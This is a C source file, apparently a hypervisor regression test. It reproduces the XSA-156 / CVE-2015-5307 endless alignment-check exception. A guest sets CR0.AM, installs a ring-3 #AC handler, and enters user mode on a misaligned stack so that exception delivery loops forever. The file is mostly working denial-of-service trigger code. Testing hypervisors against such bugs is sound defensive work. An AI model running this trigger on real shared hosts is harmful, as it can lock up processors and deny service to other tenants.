// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * An exception that never ends (XSA-156, CVE-2015-5307): its delivery raises it again, so the
 * processor never gets to an instruction.
 * Attack: an alignment check in ring 3 whose handler is in ring 3 too, on an unaligned stack.
 * Expected: the hypervisor gets the processor back, and the neighbour its slices. The attack lasts
 * until all other guests have finished.
 */
#include "pc.h"

#define USER_CODE 0x1b
#define USER_DATA 0x23
#define CR0_AM	  0x40000u
#define EFLAGS_AC 0x40000u

static uint32_t words[64];

__asm__("user_entry: movl words + 1, %eax\n"
	"user_loop: jmp user_loop\n");
extern char user_entry[];

static void set_gate(unsigned vector, uint32_t at)
{
	idt[vector] =
		(at & 0xffff) | USER_CODE << 16 | 0xeeull << 40 | (uint64_t)(at & 0xffff0000) << 32;
}

int guest_main(void)
{
	uint32_t cr0, stack = (uint32_t)&words[60] + 1;

	set_gate(17, (uint32_t)user_entry);
	__asm__ volatile("movl %%cr0, %0" : "=r"(cr0));
	__asm__ volatile("movl %0, %%cr0" ::"r"(cr0 | CR0_AM));
	say("well so far\n");
	__asm__ volatile(
		"cli; movw %w0, %%ds; movw %w0, %%es; pushl %0; pushl %1; pushl %2; pushl %3; "
		"pushl %4; iretl" ::"r"(USER_DATA),
		"r"(stack), "r"(EFLAGS_AC | 2), "r"(USER_CODE), "r"(user_entry));
	return 1;
}
